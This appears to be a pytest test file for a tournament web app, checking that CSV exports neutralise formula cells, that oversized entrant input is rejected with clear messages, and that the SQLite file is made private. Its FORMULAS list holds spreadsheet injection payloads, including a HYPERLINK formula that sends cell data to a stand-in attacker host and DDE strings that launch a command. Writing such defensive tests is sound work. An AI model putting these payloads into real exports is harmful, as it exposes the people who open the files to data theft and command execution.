"""Exports safe to open in a spreadsheet; oversized input answered with a message; a private database file."""
import csv
import io
import os
import stat

import pytest

from webapp.database import private_file
from webapp.extensions import db
from webapp.models import Event
from webapp.services.entrants import entrant_lists as entrants
from webapp.services.exports import csv_export
from webapp.services.matches import brackets
from webapp.services.setup import events

pytestmark = pytest.mark.usefixtures("no_csrf")

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"クリック")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def _event(names) -> Event:
    """A finished single elimination of these players: all of them are ranked."""
    event = events.create_event("エクスポート杯", "kgp2025")
    entrants.add_entrants(event, [{"name": n, "seed": i + 1, "members": []} for i, n in enumerate(names)])
    phase = events.add_phase(event, "本戦", "single_elimination")
    db.session.flush()
    brackets.start_phase(phase, event.entrants)
    while ready := [m for m in phase.brackets[0].matches if m.status == "ready"]:
        brackets.record_winner(ready[0], ready[0].slot_a)
        db.session.flush()
        db.session.expire_all()
    db.session.commit()
    return event


def test_standings_csv_neutralises_every_formula_cell(desk_client):
    event = _event(FORMULAS + ["普通の名前"])
    body = desk_client.get(f"/e/{event.slug}/standings.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))[1:]
    names, members = {r[2] for r in rows}, {r[3] for r in rows}
    assert names == members == {"'" + f for f in FORMULAS} | {"普通の名前"}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_each_formula_start_is_neutralised(cell):
    assert csv_export.safe_cell(cell) == "'" + cell
    assert "'" + cell in csv_export.csv_text(["name"], [[cell]])


@pytest.mark.parametrize("value", ["山田", "a=b", "1-2", 3, -3, None])
def test_other_cells_are_left_as_they_are(value):
    assert csv_export.safe_cell(value) == value


def test_a_csv_cell_over_the_csv_modules_limit_is_a_clear_message(desk_client):
    event = events.create_event("長いセル杯", "kgp2025")
    db.session.commit()
    data = ("a" * 131_073).encode()
    response = desk_client.post(f"/desk/e/{event.id}/entrants", data={"csv": (io.BytesIO(data), "big.csv")},
                                content_type="multipart/form-data")
    assert response.status_code == 422
    assert "131,072" in response.get_data(as_text=True)


def test_a_121_character_entrant_name_is_a_clear_message(desk_client):
    event = events.create_event("長い名前杯", "kgp2025")
    db.session.commit()
    response = desk_client.post(f"/desk/e/{event.id}/entrants", data={"entrants": "名" * 121})
    assert response.status_code == 422
    assert "120" in response.get_data(as_text=True)
    assert desk_client.post(f"/desk/e/{event.id}/entrants", data={"entrants": "名" * 120}).status_code == 302


def test_the_database_file_is_made_private(tmp_path):
    path = tmp_path / "taikai.sqlite3"
    private_file(str(path))
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    loose = tmp_path / "old.sqlite3"
    loose.write_bytes(b"")
    os.chmod(loose, 0o644)
    private_file(str(loose))
    assert stat.S_IMODE(os.stat(loose).st_mode) & 0o007 == 0


def test_a_new_app_on_sqlite_makes_its_file_private(tmp_path):
    from webapp import create_app
    path = tmp_path / "taikai.sqlite3"
    app = create_app({"TESTING": True, "SECRET_KEY": "x", "SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}"})
    with app.app_context():
        db.session.execute(db.text("CREATE TABLE t (x INTEGER)"))
        db.session.commit()
        db.engine.dispose()
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
